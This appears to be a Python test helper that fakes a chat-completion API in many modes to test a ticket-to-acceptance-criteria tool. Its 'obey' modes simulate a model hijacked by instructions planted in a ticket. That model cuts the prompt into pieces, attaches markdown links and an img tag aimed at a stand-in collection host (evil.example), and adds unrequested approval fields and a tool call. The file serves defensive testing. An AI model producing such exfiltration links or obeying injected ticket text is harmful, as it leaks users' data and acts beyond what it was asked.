"""What the model says: made from the schema it is given and, where it obeys, from the words of the ticket."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import cycle
from typing import Any, Literal

Mood = Literal[
    "good",
    "obey",  # does what the ticket says, inside the schema: every string is what it was sent, links and mentions
    "obey_beyond",  # the same, with fields and tool calls that nobody asked for
    "obey_in_prose",  # forgets the schema and simply talks
    "garbage",
    "wrong_schema",
    "truncated",
    "refusal",
    "filtered",
    "empty",
    "no_choices",
    "html",
    "broken",
    "drip",
    "endless",
    "rate_limited",
    "down",
    "no_schema",  # takes no response_format but json_object
]

LOOT_LINK = "https://evil.example/collect?d="
_FENCED = re.compile(r"<<<([0-9a-f]{32}) [^\n]*\n(.*?)\n\1>>>", re.DOTALL)
_SENTENCES = (
    "Given an item as described, when its main step is done, then the described result can be seen",
    "Given the same item, when the step fails, then a message says so and nothing is lost",
)


def completion(mood: Mood, request: dict[str, Any]) -> dict[str, Any]:
    """The chat completion that a request gets in this mood."""
    message: dict[str, Any] = {"role": "assistant", "content": _content(mood, request), "refusal": None}
    finish = "stop"
    if mood == "truncated":
        message["content"], finish = message["content"][: len(message["content"]) // 2], "length"
    elif mood == "filtered":
        message["content"], finish = "", "content_filter"
    elif mood == "refusal":
        message |= {"content": None, "refusal": "I cannot help with that."}
    elif mood == "obey_beyond":
        call = {"id": "1", "type": "function", "function": {"name": "set_priority", "arguments": "{}"}}
        message["tool_calls"] = [call]
    prompt_tokens = sum(len(sent["content"]) for sent in request["messages"]) // 4
    written = len(message["content"] or "") // 4
    choice = {"index": 0, "message": message, "finish_reason": finish}
    return {
        "id": "sandbox",
        "object": "chat.completion",
        "created": 0,
        "model": f"{request['model']}-sandbox",
        "choices": [] if mood == "no_choices" else [choice],
        "usage": {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": written,
            "total_tokens": prompt_tokens + written,
            "prompt_tokens_details": {"cached_tokens": prompt_tokens // 2},
        },
    }


def _content(mood: Mood, request: dict[str, Any]) -> str:
    schema = request.get("response_format", {}).get("json_schema", {}).get("schema", _USUAL)
    loot = _loot(request)
    match mood:
        case "garbage":
            return "Certainly! Here is what you asked for: {criteria: [given, when, "
        case "wrong_schema":
            return json.dumps({"acceptance": "as described", "criteria": "many"})
        case "empty":
            return ""
        case "obey_in_prose":
            return f"As you asked: {' '.join(loot)}"
        case "obey":
            return json.dumps(_instance(schema, cycle(loot)))
        case "obey_beyond":
            extra = {"priority": "Highest", "status": "Done", "approved_by": "admin", "accept": "all"}
            return json.dumps(_instance(schema, cycle(loot)) | extra)
    return json.dumps(_instance(schema, cycle(_SENTENCES)))


_USUAL: dict[str, Any] = {
    "type": "object",
    "properties": {
        "criteria": {
            "type": "array",
            "items": {
                "type": "object",
                "properties": {"text": {"type": "string"}, "is_assumption": {"type": "boolean"}},
            },
        },
        "questions": {"type": "array", "items": {"type": "string"}},
    },
}


def _loot(request: dict[str, Any]) -> tuple[str, ...]:
    """All that the model was told, in pieces that fit a field, each with a link to carry it away and a mention."""
    told = [text for sent in request["messages"] for _, text in _FENCED.findall(sent["content"])]
    told += [sent["content"] for sent in request["messages"]]
    pieces = [piece for text in told for piece in (text[at : at + 150] for at in range(0, len(text), 150))]
    carried = [f"{piece} [more]({LOOT_LINK}{piece[:20]}) [~accountid:evil]" for piece in pieces]
    return tuple(piece[:280] for piece in (*carried, f"<img src='{LOOT_LINK}1'> {{html}}{LOOT_LINK}2{{html}}"))


def _instance(schema: dict[str, Any], texts: Iterator[str]) -> Any:
    """A value that the schema allows, with the next of the texts wherever it takes a string."""
    if "anyOf" in schema:
        return _instance(schema["anyOf"][0], texts)
    if "enum" in schema or "const" in schema:
        return schema.get("const", schema.get("enum", [None])[0])
    match schema.get("type"):
        case "object":
            return {name: _instance(value, texts) for name, value in schema.get("properties", {}).items()}
        case "array":
            entries = min(schema.get("maxItems", 3), 8)
            return [_instance(schema.get("items", {}), texts) for _ in range(entries)]
        case "string":
            return next(texts)[: schema.get("maxLength", 200)]
        case "integer" | "number":
            return max(1, schema.get("minimum", 1))
        case "boolean":
            return False
    return None
